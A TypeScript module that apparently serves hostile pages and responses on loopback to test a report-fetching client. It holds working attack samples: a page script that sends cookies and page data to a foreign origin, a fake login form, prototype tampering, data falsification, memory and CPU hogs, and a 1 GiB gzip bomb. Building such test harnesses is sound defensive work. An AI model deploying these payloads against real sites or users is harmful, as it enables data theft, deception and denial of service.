import type http from 'node:http';
import zlib from 'node:zlib';
import type { AppContext } from './app';
import { projectById } from './catalog';
import { HOSTILE_LOGIN_BASE } from './hostile-kinds';
import { drainBody, html, json, redirect, send, sleepUnlessClosed, writeChunks } from './http';
import { loginPage, type ReportPageOptions } from './pages';
import { reportPath, type DemoProject, type MetricsTable } from './runs';

/**
 * Hostile behaviours (README.md § Security and limits): a platform and report pages written to misbehave, all on loopback.
 * The scenarios that use them are in scenarios-hostile.ts. Nothing here ever sees a credential: the
 * foreign origin counts the posts it receives and discards their bodies unread.
 */

export { HOSTILE_LOGIN_BASE, hostileTokens } from './hostile-kinds';

/** The `/login` a project's pages send a visitor without a session to. */
export function loginPathOf(project: DemoProject | undefined): string {
  return project?.hostile?.kind === 'login-moved' ? `${HOSTILE_LOGIN_BASE}/login` : '/login';
}

export function movedLogin(ctx: AppContext, res: http.ServerResponse, url: URL): void {
  ctx.stats.count('_hostile', 'login-moved');
  redirect(res, `${ctx.origins.foreign}/login${url.search}`);
}

/** The foreign origin (port + 2): a login form like the real one that counts what is posted to it. */
export function foreignHandler(ctx: AppContext) {
  return (req: http.IncomingMessage, res: http.ServerResponse): void => {
    const path = (req.url ?? '/').split('?')[0];
    if (req.method === 'POST') {
      ctx.stats.count('_foreign', 'login-post');
      void drainBody(req).then(() => json(res, 200, { ok: true }));
      return;
    }
    if (path === '/login') {
      ctx.stats.count('_foreign', 'login-page');
      return html(res, 200, loginPage());
    }
    // A report host of its own that asks every visitor to log in on its own origin.
    if (path?.startsWith('/reports/')) {
      ctx.stats.count('_foreign', 'report-page');
      return redirect(res, `/login?next=${encodeURIComponent(req.url ?? '/')}`);
    }
    // What the exfiltrating page sends here (what the box must stop) is counted; anything else
    // (a browser's own /favicon.ico for a page of this origin) is not.
    if (path === '/exfil' || path === '/pixel.gif') ctx.stats.count('_foreign', 'exfil');
    html(res, 404, '<!doctype html><meta charset="utf-8"><title>404</title><p>页面不存在</p>');
  };
}

/** A resource that never finishes (until the client goes away): keeps a page's `load` from firing. */
export async function hang(ctx: AppContext, _req: http.IncomingMessage, res: http.ServerResponse) {
  if (await sleepUnlessClosed(60_000, res, ctx.pending)) send(res, 204, 'image/gif', '');
}

/** Answers the report page when the project's hostile behaviour is a redirect; false otherwise. */
export function hostilePage(
  ctx: AppContext,
  res: http.ServerResponse,
  url: URL,
  project: DemoProject,
): boolean {
  const h = project.hostile;
  if (h?.kind === 'redirect-loop') {
    redirect(res, url.pathname + url.search);
    return true;
  }
  if (h?.kind === 'page-redirect') {
    const target = projectById(h.to);
    if (!target) throw new Error(`demo: hostile redirect to unknown project ${h.to}`);
    redirect(res, `${ctx.origins.portalB}${reportPath(target)}`);
    return true;
  }
  return false;
}

/** Scripts of the hostile report pages. */
export function hostilePageOptions(project: DemoProject): ReportPageOptions {
  const h = project.hostile;
  if (h?.kind === 'page-loops')
    return {
      after: `addEventListener('load', function () { setTimeout(function () { for (;;) {} }, 0); });`,
    };
  if (h?.kind === 'page-errors')
    return {
      noData: true,
      before: `for (var i = 0; i < ${h.count}; i++) setTimeout(function (n) { throw new Error('boom ' + n); }, 0, i);`,
    };
  if (h?.kind === 'page-exfil')
    return {
      after: [
        `var foreign = location.protocol + '//' + location.hostname + ':' + (Number(location.port) + 2);`,
        `var d = typeof DATA !== 'undefined' ? DATA : window.DATA;`,
        `fetch(foreign + '/exfil?d=' + encodeURIComponent(JSON.stringify(d).slice(0, 200)) + '&c=' + encodeURIComponent(document.cookie), { mode: 'no-cors' }).catch(function () {});`,
        `new Image().src = foreign + '/pixel.gif?c=' + encodeURIComponent(document.cookie);`,
        `fetch(location.protocol + '//' + location.hostname + ':' + (Number(location.port) + 1) + '/api/geo-monitor/metrics/l1', { credentials: 'include' }).catch(function () {});`,
        `addEventListener('load', function () { var a = document.createElement('a'); a.href = 'data:application/octet-stream;base64,' + btoa('x'.repeat(1024)); a.download = 'big.bin'; document.body.appendChild(a); a.click(); });`,
      ].join('\n'),
    };
  if (h?.kind === 'page-memory')
    return {
      // 8 MB blocks, touched so they are resident, one every 5 ms (a page that grows, not a spike).
      before: `window.__hog = []; (function grow() { if (window.__hog.length < ${Math.ceil(h.mb / 8)}) { window.__hog.push(new Float64Array(1 << 20).fill(1)); setTimeout(grow, 5); } })();\ndocument.write('<img src="/hostile/hang" alt="">');`,
    };
  if (h?.kind === 'data-changes')
    return {
      after: [
        `var d = typeof DATA !== 'undefined' ? DATA : window.DATA;`,
        // The aggregate positive mention rate, which item 3 alone reads (the exposure rate is in
        // item 5's ranking too): one failing item is enough for the pictures' second load, and each
        // failing item is a new Playwright worker in the catalogue self-test.
        `var v = Number(String(d.brand.summary.avg_positive_mention_rate).replace('%', ''));`,
        `d.brand.summary.avg_positive_mention_rate = (v > 50 ? v - 20 : v + 20) + Math.random();`,
      ].join('\n'),
    };
  if (h?.kind === 'page-tampers')
    return {
      before: [
        `JSON.stringify = function () { return '{}'; };`,
        `Object.keys = function () { return []; };`,
        `Array.prototype.sort = function () { return this.reverse(); };`,
        `Number.prototype.toFixed = function () { return '0'; };`,
        `Object.defineProperty(Object.prototype, 'toJSON', { value: function () { return 'tampered'; }, configurable: true });`,
      ].join('\n'),
    };
  if (h?.kind === 'data-grows') {
    // About 3 UTF-8 bytes per character: a third of `mb` million characters, built on each read.
    const rows = Math.ceil((h.mb * 1_000_000) / 3 / 40);
    return {
      after: `Object.defineProperty(typeof DATA !== 'undefined' ? DATA : window.DATA, 'padding', { enumerable: true, get: function () { var a = []; for (var i = 0; i < ${rows}; i++) a.push('填充填充填充填充填充填充填充填充填充填充填充填充填充填充填充填充' + i); return a; } });`,
    };
  }
  if (h?.kind === 'page-script-navigation') {
    const target = projectById(h.to);
    if (!target) throw new Error(`demo: hostile navigation to unknown project ${h.to}`);
    // An image that never loads keeps this page's `load` from firing before the navigation commits.
    return {
      before: `location.href = ${JSON.stringify(reportPath(target))};\ndocument.write('<img src="/hostile/hang" alt="">');`,
    };
  }
  return {};
}

// --- oversized answers ------------------------------------------------------------------------------

let hugeChunk: Buffer | undefined;
function hugeRows(): Buffer {
  if (!hugeChunk) {
    const row = '{"title":"一篇很长的相关信源标题，重复出现","channel":"知乎","cite_count":1,"rank":1},';
    hugeChunk = Buffer.from(row.repeat(Math.ceil((1 << 20) / Buffer.byteLength(row))));
  }
  return hugeChunk;
}

let bomb: Buffer | undefined;
/**
 * `{"rows":[` + 1 GiB of spaces + `]}` in about 1 MB: one gzip member of 1 MiB of spaces (about
 * 1 KB) repeated 1024 times between a member with the head and one with the tail. A gzip stream
 * may hold many members, and every gzip reader (Node's zlib and fetch, browsers) unpacks them all,
 * so a client reads 1 GiB unless it stops itself; built in milliseconds, where compressing 1 GiB
 * took seconds of the demo's CPU.
 */
function gzipBomb(): Buffer {
  if (!bomb) {
    const spaces = zlib.gzipSync(Buffer.alloc(1 << 20, 0x20), { level: 9 });
    bomb = Buffer.concat([
      zlib.gzipSync('{"rows":['),
      ...Array.from({ length: 1024 }, () => spaces),
      zlib.gzipSync(']}'),
    ]);
  }
  return bomb;
}

/** Answers a metrics request with the project's hostile answer; false when none applies. */
export async function hostileMetrics(
  ctx: AppContext,
  res: http.ServerResponse,
  project: DemoProject,
  table: MetricsTable,
  platform: string,
): Promise<boolean> {
  const h = project.hostile;
  if (h?.kind === 'huge-answer' && table === 'source' && platform === 'all') {
    ctx.stats.count('_hostile', 'huge-answer');
    res.writeHead(200, { 'Content-Type': 'application/json; charset=utf-8', 'Cache-Control': 'no-store' });
    const head = Buffer.from('{"rows":[');
    const tail = Buffer.from('{"title":"end","channel":"知乎","cite_count":1,"rank":1}]}');
    let total = 0;
    let state: 'head' | 'rows' | 'done' = 'head';
    const next = (): Buffer | undefined => {
      if (state === 'done') return undefined;
      const chunk = state === 'head' ? head : total + hugeRows().length < h.bytes ? hugeRows() : tail;
      state = chunk === tail ? 'done' : 'rows';
      total += chunk.length;
      return chunk;
    };
    ctx.stats.count('_hostile', 'huge-answer-bytes', await writeChunks(res, next, ctx.pending));
    return true;
  }
  if (h?.kind === 'gzip-bomb' && table === 'tmc') {
    ctx.stats.count('_hostile', 'gzip-bomb');
    const body = gzipBomb();
    send(res, 200, 'application/json; charset=utf-8', body, { 'Content-Encoding': 'gzip' });
    return true;
  }
  return false;
}
